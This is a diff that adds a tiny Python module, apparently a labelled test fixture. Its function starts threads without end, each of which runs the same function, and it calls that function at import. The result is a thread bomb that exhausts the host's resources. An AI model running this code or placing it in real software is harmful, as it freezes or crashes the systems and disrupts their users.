@@ -1,0 +1,12 @@
+"""Threads that make threads."""
+# named: imports threading
+
+import threading
+
+
+def more():
+    while True:
+        threading.Thread(target=more).start()
+
+
+more()
